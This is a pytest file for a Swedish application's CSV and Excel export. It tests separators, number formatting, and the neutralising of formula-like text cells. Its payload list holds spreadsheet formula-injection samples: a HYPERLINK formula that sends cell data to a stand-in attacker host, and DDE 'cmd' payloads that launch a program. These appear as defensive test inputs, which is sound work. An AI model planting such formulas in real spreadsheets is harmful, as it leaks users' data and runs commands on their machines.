"""CSV and xlsx as the product writes them for Excel: Swedish separators, BOM, numbers as
numbers, and no text cell that a spreadsheet program could run as a formula."""

import csv
import io
import math
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from indicators.imports.formats.mall import EXAMPLE_ROW, TEMPLATE_COLUMNS
from indicators.imports.template import template_csv, template_xlsx
from indicators.spreadsheets import to_csv_bytes, to_xlsx_bytes

BOM = b"\xef\xbb\xbf"
PAYLOADS = [
    '=HYPERLINK("http://angripare.example/?x="&A1;"Klicka här")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "-: bortfall",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Namn": [*PAYLOADS, "Jönköpings kommun"],
            "Område": ["0680"] * (len(PAYLOADS) + 1),
            "Värde": [12.5, 0.1 + 0.2, 1e-7, 1234567.5, -5.0, math.nan, 3.0, 40.0],
            "Antal": [1, 2, 3, 4, 5, 6, 7, 8],
        }
    )


def _csv_rows(content: bytes, *, sep: str) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


def test_swedish_csv_has_bom_semicolons_and_decimal_comma():
    content = to_csv_bytes(_frame())
    assert content.startswith(BOM)
    assert b"\r\n" in content
    rows = _csv_rows(content, sep=";")
    assert rows[0] == ["Namn", "Område", "Värde", "Antal"]
    values = [r[2] for r in rows[1:]]
    assert values == ["12,5", "0,30000000000000004", "0,0000001", "1234567,5", "-5", "", "3", "40"]
    assert rows[-1][0] == "Jönköpings kommun"
    assert {r[1] for r in rows[1:]} == {"0680"}


def test_international_csv_has_commas_points_and_no_bom():
    content = to_csv_bytes(_frame(), swedish=False)
    assert not content.startswith(BOM)
    rows = _csv_rows(content, sep=",")
    assert [r[2] for r in rows[1:3]] == ["12.5", "0.30000000000000004"]
    assert float(rows[2][2]) == 0.1 + 0.2


def test_csv_neutralises_every_formula_like_text_cell():
    rows = _csv_rows(to_csv_bytes(_frame()), sep=";")
    names = [r[0] for r in rows[1 : len(PAYLOADS) + 1]]
    for payload, written in zip(PAYLOADS, names, strict=True):
        assert written == "'" + payload
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or cell == "-5", cell


def test_csv_header_is_neutralised_too():
    content = to_csv_bytes(pd.DataFrame({"=1+1": ["a"]}))
    assert _csv_rows(content, sep=";")[0] == ["'=1+1"]


def test_xlsx_never_holds_a_formula():
    content = to_xlsx_bytes({"Värden": _frame()})
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(content))["Värden"]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(TRIGGERS), cell.coordinate
    names = [sheet.cell(row=r, column=1).value for r in range(2, len(PAYLOADS) + 2)]
    # openpyxl's own XML writer lets a bare CR come back as LF, its lxml writer keeps it (lxml
    # arrives with python-docx); the cell stays neutralised either way.
    assert [n.replace("\r", "\n") for n in names] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]


def test_xlsx_numbers_are_numbers_and_codes_are_text():
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes({"Värden": _frame()})))["Värden"]
    assert [c.value for c in sheet[1]] == ["Namn", "Område", "Värde", "Antal"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.cell(row=2, column=2).value == "0680"
    assert sheet.cell(row=2, column=2).data_type == "s"
    assert sheet.cell(row=2, column=3).value == 12.5
    assert sheet.cell(row=2, column=3).data_type == "n"
    # openpyxl writes 16 significant digits (Excel itself shows 15): exact for every value that
    # came from decimal text, as imported values do.
    assert sheet.cell(row=5, column=3).value == 1234567.5
    assert sheet.cell(row=4, column=3).value == 1e-7
    assert sheet.cell(row=7, column=3).value is None
    assert sheet.cell(row=2, column=4).value == 1
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["D"].width


def test_xlsx_sheet_names_are_valid_and_distinct():
    frame = pd.DataFrame({"a": [1]})
    workbook = load_workbook(
        io.BytesIO(to_xlsx_bytes({"Kvot: a/b": frame, "Kvot_ a_b": frame, "x" * 40: frame}))
    )
    assert workbook.sheetnames[0] == "Kvot_ a_b"
    assert workbook.sheetnames[1] == "Kvot_ a_b (2)"
    assert len(workbook.sheetnames[2]) == 31


def test_control_characters_do_not_break_the_xlsx():
    frame = pd.DataFrame({"Namn": ["a\x00b\x07c"]})
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes({"Blad": frame})))["Blad"]
    assert sheet["A2"].value == "abc"


def test_template_csv_has_swedish_headers_and_the_example_row():
    content = template_csv()
    assert content.startswith(BOM)
    rows = _csv_rows(content, sep=";")
    assert rows[0] == TEMPLATE_COLUMNS
    assert len(rows) == 2
    example = dict(zip(rows[0], rows[1], strict=True))
    assert example == {c: EXAMPLE_ROW.get(c, "") for c in TEMPLATE_COLUMNS}


@pytest.mark.parametrize("word", ["personnummer", "2023H1", "2023Q1", "2023M03", "sekretess"])
def test_template_xlsx_explains_every_column(word):
    workbook = load_workbook(io.BytesIO(template_xlsx()))
    assert workbook.sheetnames == ["Mall", "Instruktioner"]
    mall = workbook["Mall"]
    assert [c.value for c in mall[1]] == TEMPLATE_COLUMNS
    example = {h: c for h, c in zip(TEMPLATE_COLUMNS, mall[2], strict=True)}
    assert example["Område"].value == "0680" and example["Område"].data_type == "s"
    assert example["Värde"].data_type == "n"
    assert example["Värde"].value == float(EXAMPLE_ROW["Värde"].replace(",", "."))
    help_sheet = workbook["Instruktioner"]
    described = {row[0] for row in help_sheet.iter_rows(min_row=2, values_only=True)}
    assert set(TEMPLATE_COLUMNS) <= described
    text = " ".join(
        str(v) for row in help_sheet.iter_rows(values_only=True) for v in row if v is not None
    )
    assert word in text


def test_every_xlsx_number_has_a_number_format_and_shown_text_becomes_a_number():
    """A download's "Visas som" column held "68,5 %" as text: Excel could not sum or sort it.
    The one writer turns such text into the number with a format that shows it the same."""
    frame = pd.DataFrame(
        {
            "Kommunkod": ["0680", "0604", "0617"],
            "År": [2024, 2025, 2025],
            "Värde": [68.5, 70.25, None],
            "Visas som": ["68,5\u00a0%", "1\u00a0234\u00a0dagar", "sekretess"],
            "Förändring": ["\u22122,0", "3,25", "–"],
        }
    )
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes({"Data": frame})))["Data"]
    code, year, value, shown, delta = (sheet.cell(row=2, column=c) for c in range(1, 6))
    assert code.value == "0680" and code.data_type == "s"  # codes keep their leading zero
    assert year.value == 2024 and year.data_type == "n" and year.number_format == "0"
    assert value.value == 68.5 and value.data_type == "n"
    assert value.number_format == "#,##0.00"  # the column's most decimals (70,25)
    assert shown.value == 68.5 and shown.data_type == "n"
    assert shown.number_format == '#,##0.0" %"'
    assert delta.value == -2.0 and delta.number_format == "#,##0.0"
    days = sheet.cell(row=3, column=4)
    assert days.value == 1234 and days.data_type == "n" and days.number_format == '#,##0" dagar"'
    assert sheet.cell(row=4, column=4).value == "sekretess"
    assert sheet.cell(row=4, column=5).data_type == "s"
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if cell.data_type == "n" and cell.value is not None:
                assert cell.number_format != "General", cell.coordinate


def test_xlsx_moments_are_swedish_time():
    from datetime import UTC, datetime

    frame = pd.DataFrame({"Tid": [datetime(2026, 7, 1, 10, 0, tzinfo=UTC)]})
    cell = load_workbook(io.BytesIO(to_xlsx_bytes({"Data": frame})))["Data"]["A2"]
    assert cell.value == datetime(2026, 7, 1, 12, 0)  # summer time, UTC+2
    assert cell.number_format == "yyyy-mm-dd hh:mm"
